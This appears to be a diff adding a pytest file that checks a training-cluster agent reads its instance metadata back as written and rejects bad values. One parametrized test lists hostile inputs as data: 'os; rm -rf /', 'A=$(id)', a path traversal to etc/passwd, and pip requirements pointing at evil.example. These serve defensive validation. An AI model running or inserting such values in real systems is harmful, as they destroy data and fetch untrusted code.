@@ -1,0 +1,143 @@
+"""The agent reads what the Pulumi program writes, and refuses anything else by key."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from trainstack import scripts
+from trainstack.resolved import ResolvedStack, resolve_stack
+from trainstack.stackfile import STACKS_DIR, load_stack
+from trainstack_agent.cloud import Unavailable
+from trainstack_agent.settings import SettingsError, read_settings
+from trainstack_contract import METADATA_KEYS
+
+KEYS = METADATA_KEYS
+
+
+class DictMetadata:
+    """Instance and project attributes from dicts; a key in ``unavailable`` fails as a 503 does."""
+
+    def __init__(self, instance: dict[str, str], project: dict[str, str] | None = None) -> None:
+        self.instance = dict(instance)
+        self.project = dict(project or {})
+        self.unavailable: set[str] = set()
+
+    def attribute(self, key: str) -> str | None:
+        if key in self.unavailable:
+            raise Unavailable(f"GET instance/attributes/{key}: no answer after 6 attempts (HTTP 503)")
+        return self.instance.get(key)
+
+    def project_attribute(self, key: str) -> str | None:
+        return self.project.get(key)
+
+
+def resolved(name: str) -> ResolvedStack:
+    return resolve_stack(load_stack(STACKS_DIR / f"Pulumi.{name}.yaml")[0])
+
+
+def cluster_metadata(name: str = "multiworker", node: str = "chief") -> DictMetadata:
+    stack = resolved(name)
+    assert stack.cluster is not None
+    [cluster_node] = [n for n in stack.cluster.nodes if n.name == node]
+    instance = scripts.node_metadata(stack.cluster, cluster_node, stack.bucket_uri, stack.job)
+    project = (
+        {stack.cluster.tf_cluster_metadata_key: json.dumps(stack.cluster.tf_cluster)}
+        if stack.cluster.tf_cluster
+        else {}
+    )
+    return DictMetadata(instance, project)
+
+
+@pytest.mark.parametrize("name", ["dev", "multiworker", "paramserver", "ownpackage"])
+def test_every_shipped_cluster_nodes_metadata_reads_back_as_the_program_meant(name: str) -> None:
+    stack = resolved(name)
+    assert stack.cluster is not None
+    for node in stack.cluster.nodes:
+        metadata = cluster_metadata(name, node.name)
+        settings = read_settings(metadata)  # type: ignore[arg-type]
+        assert (settings.node, settings.role, settings.index) == (node.name, node.role, node.index)
+        assert settings.job is not None and settings.job.job_dir == stack.job_dir
+        assert settings.job.code is not None and settings.job.code.sha256 == stack.job.package.sha256  # type: ignore[union-attr]
+        if stack.cluster.tf_cluster:
+            assert json.loads(settings.tf_config or "")["task"] == {"type": node.role, "index": node.index}
+        else:
+            assert settings.tf_config is None
+        assert settings.is_chief == (node.role == "chief")
+        assert bool(settings.recover) == (node.role == "chief" and bool(stack.cluster.recoverable_nodes))
+
+
+def test_the_tpu_vms_metadata_reads_back() -> None:
+    stack = resolved("tpu")
+    assert stack.tpu is not None
+    settings = read_settings(DictMetadata(scripts.tpu_metadata(stack, stack.tpu)))  # type: ignore[arg-type]
+    assert (settings.kind, settings.node, settings.tpu_name) == ("tpu", "tpu", stack.tpu.vm_name)
+    assert settings.max_run_seconds == stack.tpu.max_run_seconds
+    assert settings.python.system_site_packages and settings.python.requirements[0].startswith("tf-keras==")
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        (KEYS.role, "admin"),
+        (KEYS.index, "-1"),
+        (KEYS.index, "0\n"),
+        (KEYS.node_name, "../etc"),
+        (KEYS.on_finish, "never"),
+        (KEYS.heartbeat_seconds, "0"),
+        (KEYS.job_dir, "gs://other-teams-bucket/jobs/x"),
+        (KEYS.job_dir, "gs://your-gcp-project-multiworker/jobs/../x"),
+        (KEYS.trainer_args, '["--a", 1]'),
+        (KEYS.trainer_args, '{"a": 1}'),
+        (KEYS.code_archive, "trainstack/code/../../etc/passwd.zip"),
+        (KEYS.code_archive, "jobs/x/code.zip"),
+        (KEYS.code_archive_sha256, "deadbeef"),
+        (KEYS.module, "os; rm -rf /"),
+        (KEYS.secrets, "A=$(id)"),
+        (KEYS.peers, "chief worker-0 Worker"),
+        (KEYS.max_restarts, "1000"),
+        (KEYS.python_requirements, "--index-url https://evil.example/simple"),
+        (KEYS.python_requirements, "tensorflow @ https://evil.example/tf.whl"),
+        (KEYS.system_site_packages, "yes"),
+        (KEYS.recover, "worker-0=a b"),
+        (KEYS.node_kind, "gke"),
+    ],
+)
+def test_a_value_that_does_not_match_is_refused_naming_its_key(key: str, value: str) -> None:
+    metadata = cluster_metadata()
+    metadata.instance[key] = value
+    with pytest.raises(SettingsError, match=key):
+        read_settings(metadata)  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize("key", [KEYS.role, KEYS.bucket, KEYS.job_mode, KEYS.code_archive_sha256, KEYS.on_finish])
+def test_a_required_key_that_is_missing_is_refused(key: str) -> None:
+    metadata = cluster_metadata()
+    del metadata.instance[key]
+    with pytest.raises(SettingsError, match=f"required metadata {key} is missing"):
+        read_settings(metadata)  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize("key", [KEYS.secrets, KEYS.requirements, KEYS.wheelhouse, KEYS.cluster_key, KEYS.recover])
+def test_an_optional_key_that_is_unreachable_is_never_taken_as_absent(key: str) -> None:
+    """A 503 on an optional key once ran a job without its secret, and started a worker's
+    trainer with no TF_CONFIG."""
+    metadata = cluster_metadata()
+    metadata.unavailable.add(key)
+    with pytest.raises(Unavailable):
+        read_settings(metadata)  # type: ignore[arg-type]
+
+
+def test_a_missing_tf_config_cluster_is_refused() -> None:
+    metadata = cluster_metadata()
+    metadata.project.clear()
+    with pytest.raises(SettingsError, match="the TF_CONFIG cluster"):
+        read_settings(metadata)  # type: ignore[arg-type]
+
+
+def test_the_recover_list_belongs_to_the_chief_alone() -> None:
+    metadata = cluster_metadata(node="worker-0")
+    metadata.instance[KEYS.recover] = "worker-1=multiworker-worker-1"
+    with pytest.raises(SettingsError, match="not the chief"):
+        read_settings(metadata)  # type: ignore[arg-type]
